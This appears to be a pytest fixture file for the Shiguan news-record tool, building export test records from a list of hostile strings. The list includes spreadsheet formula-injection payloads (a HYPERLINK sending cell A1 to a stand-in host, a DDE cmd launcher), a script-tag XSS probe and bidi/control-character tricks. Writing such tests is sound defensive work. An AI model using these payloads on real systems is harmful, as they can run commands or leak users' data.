"""Records to export: one made of hostile text, one that holds nothing."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import closing
from decimal import Decimal
from pathlib import Path

import pytest

from shiguan import Shiguan
from shiguan.interfaces.messages import Messages
from shiguan.ledger.connection import connect
from shiguan.query.view import View
from shiguan.records.amount import Amount
from shiguan.records.claim import Certainty, Polarity
from shiguan.vocabulary import load_vocabulary
from tests.query.build import put
from tests.resolve.build import Line, Paper, left, paper

HOSTILE = (
    '=HYPERLINK("http://x.test/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*云帆",
    "\t=1+1",
    "\r=2+2",
    "＝1+1",
    " \u200b=1",
    "<script>alert(1)</script>",
    "<!--]]>&lt;'\"",
    "a\x00b\x01c\x0bd",
    "甲\u202e乙\u2066丙",
    "丁\ufffe\uffff戊",
    "_x0041_",
    '逗号,引号"分号;\n换行',
    "😀𠮷野家",
)


def hostile_papers() -> list[Paper]:
    """An article for each string: it is a person's name, an organisation's, the words around them, the file and the outlet."""
    papers = []
    for number, text in enumerate(HOSTILE):
        lines = [
            left(f"{text}人", f"{text}司", "2030-05", to=f"{text}新司", said=text),
            Line(
                "funding",
                {"org": f"{text}司"},
                {"amount": Amount(Decimal(3000000), Decimal(5000000), "CNY", None, f"{text}三百万")},
            ),
            left(f"{text}客", f"{text}司", certainty=Certainty.RUMOURED),
            left(f"{text}客", f"{text}司", certainty=Certainty.DENIED, polarity=Polarity.NEGATED, said="公司否认"),
            Line("forecast", {}, {"gist": f"{text}将会如此"}, speaker=f"{text}人"),
        ]
        papers.append(paper(lines, file=f"{number:02} {text}.txt", publisher=f"{text}报"))
    return papers


def record_of(path: Path, papers: list[Paper]) -> Path:
    """A record that holds the papers, with its present made."""
    with closing(connect(path)) as connection:
        put(connection, papers)
    with Shiguan(path) as shiguan:
        shiguan.view()
    return path


@pytest.fixture(scope="session")
def hostile_record(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return record_of(tmp_path_factory.mktemp("hostile") / "hostile.db", hostile_papers())


@pytest.fixture(scope="session")
def empty_record(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return record_of(tmp_path_factory.mktemp("empty") / "empty.db", [])


@pytest.fixture
def hostile(hostile_record: Path) -> Iterator[View]:
    with Shiguan(hostile_record) as shiguan:
        yield shiguan.view()


@pytest.fixture(scope="session")
def messages() -> Messages:
    return Messages("zh", load_vocabulary().events)
